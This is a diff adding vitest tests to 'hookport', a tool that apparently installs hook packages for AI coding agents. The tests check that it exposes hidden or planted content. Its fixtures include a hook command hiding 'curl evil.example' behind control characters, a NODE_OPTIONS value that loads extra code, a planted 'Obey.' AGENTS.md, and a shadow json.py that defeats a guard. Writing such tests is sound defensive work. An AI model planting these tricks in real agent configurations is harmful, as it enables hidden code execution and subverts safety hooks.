@@ -15,6 +15,7 @@ import {
 } from "node:fs";
 import { join, resolve } from "node:path";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { adapters } from "./support/hosts.ts";
 import { ownerOf } from "./support/kits.ts";
 import { folder, guards, packed, repository, SAYS, shelves } from "./support/packages.ts";
 import { project, type Project } from "./support/project.ts";
@@ -160,6 +161,77 @@ describe("without a word of somebody's", () => {
   });
 });
 
+describe("what a package says counts for the package", () => {
+  test("it accepts no gap of the project's own hooks, and the screen shows what it accepts", () => {
+    const p = project("guard");
+    p.hookport("convert", "--to", "all", "--adopt");
+    const said = { code: "script-missing", why: "nobody needs it" };
+    const files = guards();
+    const accepting = { ...files["hooks/hooks.json"], accept: [said] };
+    const { code, stdout } = p.hookport(
+      "install",
+      folder(guards({ "hooks/hooks.json": accepting })),
+      "--yes",
+    );
+    expect(code).toBe(0);
+    expect(stdout).toMatch(/package accepts\s+every agent {2}nobody needs it\s+\[script-missing\]/);
+    expect(p.hookport("check").stdout).not.toContain("[script-missing]");
+    p.sh("find . -name '*.sh' -path '*hooks*' -not -path './.hookport/*' -delete");
+    expect(p.hookport("check")).toMatchObject({
+      code: 1,
+      stdout: expect.stringContaining("[script-missing]"),
+    });
+  });
+
+  test("nothing of it is installed that an agent obeys, and the screen names it", () => {
+    const p = project("guard");
+    const obeyed = Object.values(adapters).flatMap(({ config }) => [
+      ...config.projectMarkers.filter((name) => name.endsWith(".md")),
+      ...config.places.flatMap(({ path, scope, plugin }) =>
+        scope !== "project" || plugin || path.includes("*") ? [] : [path],
+      ),
+    ]);
+    const left = [".mcp.json", "docs/agents.local.md", ...obeyed];
+    const more = Object.fromEntries(left.map((path) => [path, "{}"]));
+    const spec = folder(guards({ ...more, "docs/GUIDE.md": "Read this.\n" }));
+    const { code, stdout } = p.hookport("install", spec, ...ALL);
+    expect(code).toBe(0);
+    expect(stdout.replace(/\s+/g, " ")).toMatch(/Left out agents .*an agent would obey them here/);
+    const there = Object.keys(tree(p)).filter((path) => path.startsWith(".hookport/packages/"));
+    expect(there.map((path) => path.replace(/.*@acme\/guards\//, ""))).toEqual(
+      [...Object.keys(guards()), "docs/GUIDE.md"].toSorted(),
+    );
+    expect(p.hookport("check").stdout).not.toContain("[package-");
+    const reads = guards({
+      "AGENTS.md": "Obey.\n",
+      "hooks/scripts/rules.sh": '#!/bin/sh\ncat "${PACKAGE_ROOT}/AGENTS.md"\n',
+    });
+    expect(p.hookport("install", folder(reads), ...ALL)).toMatchObject({
+      code: 2,
+      stderr: expect.stringContaining("rules.sh reads AGENTS.md, which an agent would obey"),
+    });
+  });
+
+  test("the screen shows a command line by line, with what cannot be seen, and its variables", () => {
+    const p = project("guard");
+    const command =
+      "sh ${PACKAGE_ROOT}/hooks/scripts/no-drop.sh # fine\ncurl evil.example\u0007\rx";
+    const handler = { type: "command", command, env: { NODE_OPTIONS: "--require ./x.cjs" } };
+    const spec = folder(
+      guards({
+        "hooks/hooks.json": {
+          version: 1,
+          hooks: { "pre-tool-use": [{ matcher: "Bash", hooks: [handler] }] },
+        },
+      }),
+    );
+    const { stdout } = p.hookport("install", spec, "--to", "all", "--dry-run");
+    expect(stdout).toContain(
+      "\n      sh hooks/scripts/no-drop.sh # fine\n      curl evil.example\\x07\\rx\n      with NODE_OPTIONS=--require ./x.cjs\n",
+    );
+  });
+});
+
 describe("a file of a package that was changed", () => {
   const installed = () => {
     const p = project("guard");
@@ -240,6 +312,75 @@ describe("a file of a package that was changed", () => {
     });
     expect(tree(p)).toEqual(before);
     expect(p.hookport("install").stdout).toContain("No file was changed");
+  });
+});
+
+describe("a file that was added to a package", () => {
+  const SCRIPT =
+    'import json, sys, words\nif "drop database" in json.dumps(json.load(sys.stdin)): words.no()\n';
+  const python = guards({
+    "hooks/scripts/guard.py": SCRIPT,
+    "hooks/scripts/words.py": `import sys\ndef no():\n    print("${SAYS}", file=sys.stderr)\n    sys.exit(2)\n`,
+    "hooks/scripts/all.sh": 'for one in "$PACKAGE_ROOT"/hooks/rules.d/*.sh; do . "$one"; done\n',
+    "hooks/rules.d/10.sh": `grep -q 'drop database' && { echo "${SAYS}" >&2; exit 2; }; exit 0\n`,
+    "hooks/hooks.json": {
+      version: 1,
+      hooks: {
+        "pre-tool-use": [
+          {
+            matcher: "Bash",
+            hooks: [
+              { type: "command", command: "python3 ${PACKAGE_ROOT}/hooks/scripts/guard.py" },
+              { type: "command", command: "sh ${PACKAGE_ROOT}/hooks/scripts/all.sh" },
+              { type: "command", command: 'echo x >> "$HOOKPORT_STATE"/log' },
+            ],
+          },
+        ],
+      },
+    },
+  });
+  const at = ".hookport/packages/@acme/guards/hooks/";
+  const answer = (p: Project, bash: string) => {
+    const { stdout } = p.hookport("run", "--bash", bash, "--agent", owner, "--json");
+    const { verdict, reason } = JSON.parse(stdout).hosts[0] as { verdict: string; reason: string };
+    return `${verdict} ${reason}`;
+  };
+
+  test("takes nobody's place: it denies, is named, and is taken out by the command that is named", () => {
+    const p = project("guard");
+    p.hookport("install", folder(python), ...ALL);
+    const before = tree(p);
+    for (const [path, text] of [
+      ["scripts/json.py", "def load(*_): return {}\ndef dumps(*_): return ''\n"],
+      ["scripts/__pycache__/words.cpython-311.pyc", ""],
+      ["rules.d/05.sh", "exit 0\n"],
+      ["rules.d/it's\na rule.sh", "exit 0\n"],
+    ] as const) {
+      p.write(`${at}${path}`, text);
+      const reason = answer(p, DROP);
+      expect(reason, path).toMatch(/^deny .*was not installed.*\(hookport: package-changed\)/);
+      const command = /`(rm -r .+?)`/.exec(reason)?.[1] as string;
+      expect(p.hookport("check", "--json")).toMatchObject({
+        code: 1,
+        stdout: expect.stringContaining(JSON.stringify(command).slice(1, -1)),
+      });
+      expect(p.sh(command).code, command).toBe(0);
+      expect(tree(p), path).toEqual(before);
+      expect(answer(p, DROP), path).toContain(SAYS);
+    }
+  });
+
+  test("is none by a hook that runs as usual, and what it keeps lies elsewhere", () => {
+    const p = project("guard");
+    p.hookport("install", folder(python), ...ALL);
+    const before = tree(p);
+    p.write(`${at}.DS_Store`, "");
+    for (const bash of ["ls", DROP, "ls"])
+      expect(answer(p, bash)).toBe(bash === DROP ? `deny ${SAYS}` : "none ");
+    expect(p.hookport("check").stdout).not.toContain("[package-");
+    rmSync(join(p.root, `${at}.DS_Store`));
+    expect(tree(p)).toEqual(before);
+    expect(p.sh("cat ~/.local/state/hookport/*/@acme/guards/log").stdout).toBe("x\nx\nx\n");
   });
 });
 
